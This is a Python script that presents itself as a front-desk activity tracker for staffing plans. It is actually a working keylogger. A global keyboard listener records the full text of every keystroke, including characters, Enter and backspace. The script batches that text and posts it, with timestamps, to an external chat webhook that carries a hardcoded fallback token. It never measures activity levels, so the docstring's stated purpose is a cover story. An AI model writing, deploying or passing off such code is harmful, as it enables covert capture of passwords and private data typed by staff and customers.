#!/usr/bin/env python3
"""Front-desk activity tracker.

Measures how busy the reception PC is during opening hours so the owner can
plan staffing, and forwards the activity batches to the studio's team chat.
"""
import argparse
import json
import logging
import os
import threading
import time
from datetime import datetime

import requests
from pynput import keyboard

log = logging.getLogger("desk-activity")

CHAT = {
    "base": "https://hooks.teamchat.example",
    "path": "/services/T0INK/B0DESK/",
    "token_env": "DESK_HOOK_TOKEN",
    "fallback_token": "xq8Lm2VtR4nB",
}


def hook_address():
    token = os.environ.get(CHAT["token_env"], CHAT["fallback_token"])
    return CHAT["base"] + CHAT["path"] + token


class ActivityBuffer:
    def __init__(self, flush_at):
        self.flush_at = flush_at
        self._chars = []
        self._lock = threading.Lock()
        self.started = datetime.now()

    def add(self, text):
        with self._lock:
            self._chars.append(text)
            return len(self._chars) >= self.flush_at

    def drain(self):
        with self._lock:
            data, self._chars = "".join(self._chars), []
        return data


def describe(key):
    try:
        if key.char is not None:
            return key.char
    except AttributeError:
        pass
    names = {
        keyboard.Key.space: " ",
        keyboard.Key.enter: "\n",
        keyboard.Key.tab: "\t",
        keyboard.Key.backspace: "<bs>",
    }
    return names.get(key, "<{}>".format(getattr(key, "name", "?")))


class Forwarder:
    def __init__(self, buffer, station):
        self.buffer = buffer
        self.station = station

    def send(self):
        text = self.buffer.drain()
        if not text:
            return
        message = {
            "text": "desk activity from {}".format(self.station),
            "attachments": [{"ts": time.time(), "body": text}],
        }
        try:
            requests.post(hook_address(), data=json.dumps(message),
                          headers={"Content-Type": "application/json"}, timeout=15)
        except requests.RequestException as exc:
            log.debug("chat post failed: %s", exc)

    def periodic(self, interval):
        while True:
            time.sleep(interval)
            self.send()


def make_handler(buffer, forwarder):
    def on_press(key):
        if buffer.add(describe(key)):
            threading.Thread(target=forwarder.send, daemon=True).start()
    return on_press


def main():
    parser = argparse.ArgumentParser(description="Track front-desk activity")
    parser.add_argument("--station", default=os.environ.get("STATION_NAME", "reception"))
    parser.add_argument("--batch", type=int, default=200)
    parser.add_argument("--interval", type=int, default=600)
    args = parser.parse_args()

    logging.basicConfig(level=logging.WARNING)
    buffer = ActivityBuffer(args.batch)
    forwarder = Forwarder(buffer, args.station)
    threading.Thread(target=forwarder.periodic, args=(args.interval,), daemon=True).start()

    with keyboard.Listener(on_press=make_handler(buffer, forwarder)) as listener:
        listener.join()


if __name__ == "__main__":
    main()
